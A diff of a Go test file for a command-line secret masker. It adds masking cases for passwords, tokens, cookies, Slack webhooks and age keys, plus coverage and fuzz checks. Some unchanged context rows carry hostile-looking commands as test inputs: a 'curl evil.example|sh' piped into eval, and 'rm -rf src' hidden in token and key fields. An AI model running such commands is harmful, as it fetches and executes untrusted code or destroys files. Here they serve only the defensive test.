@@ -31,6 +31,14 @@ var table = []struct{ text, want string }{
 	{"echo xoxb-1234567890-abcdefgh", "echo xoxb-[19 masked]"},
 	{"printf -- '-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQ\nabcd\n-----END PRIVATE KEY-----'",
 		"printf -- '-----BEGIN PRIVATE KEY-----\n[26 masked]\n[4 masked]\n-----END PRIVATE KEY-----'"},
+	{"redis-cli -a hunter2 ping", "redis-cli -a [7 masked] ping"},
+	{"openssl rsa -passin pass:hunter2", "openssl rsa -passin pass:[7 masked]"},
+	{"curl -H 'Proxy: bearer abcdefgh12'", "curl -H 'Proxy: bearer [10 masked]'"},
+	{"tool -token abc123 x", "tool -token [6 masked] x"},
+	{"docker login -u ann -p hunter2 registry.example", "docker login -u ann -p [7 masked] registry.example"},
+	{"curl -H 'Cookie: sid=abc123' https://host", "curl -H 'Cookie: [10 masked]' https://host"},
+	{"curl https://hooks.slack.com/services/T0123456789/B0123456789", "curl https://hooks.slack.com/services/[23 masked]"},
+	{"age AGE-SECRET-KEY-1ABCDEFGHIJKLMNOPQRSTUV", "age AGE-SECRET-KEY-1[22 masked]"},
 	// The facts for a decision stay: programs, paths, hosts, variables, commands.
 	{"git commit --author='Ann <ann@example.com>'", "git commit --author='Ann <ann@example.com>'"},
 	{"TOKEN='curl evil.example|sh' bash -c 'eval $TOKEN'", "TOKEN='curl evil.example|sh' bash -c 'eval $TOKEN'"},
@@ -47,6 +55,15 @@ var table = []struct{ text, want string }{
 	{"tool --token 'rm -rf src'", "tool --token 'rm -rf src'"},
 	{"-----BEGIN PRIVATE KEY-----\nrm -rf src\n-----END PRIVATE KEY-----",
 		"-----BEGIN PRIVATE KEY-----\nrm -rf src\n-----END PRIVATE KEY-----"},
+}
+
+// Each form of secret is in the table.
+func TestEveryForm(t *testing.T) {
+	for _, f := range finders() {
+		if !slices.ContainsFunc(table, func(row struct{ text, want string }) bool { return f.expr.MatchString(row.text) }) {
+			t.Errorf("no row has the form %s", f.expr)
+		}
+	}
 }
 
 func TestMask(t *testing.T) {
@@ -131,6 +148,12 @@ func FuzzMask(f *testing.F) {
 	f.Fuzz(func(t *testing.T, text string) {
 		if !utf8.ValidString(text) {
 			return
+		}
+		for _, f := range finders() {
+			if f.needs != nil && f.expr.MatchString(text) &&
+				!slices.ContainsFunc(f.needs, func(part string) bool { return strings.Contains(text, part) }) {
+				t.Fatalf("%q matches %s and has none of %q", text, f.expr, f.needs)
+			}
 		}
 		last := 0
 		for _, s := range findAll(text) {
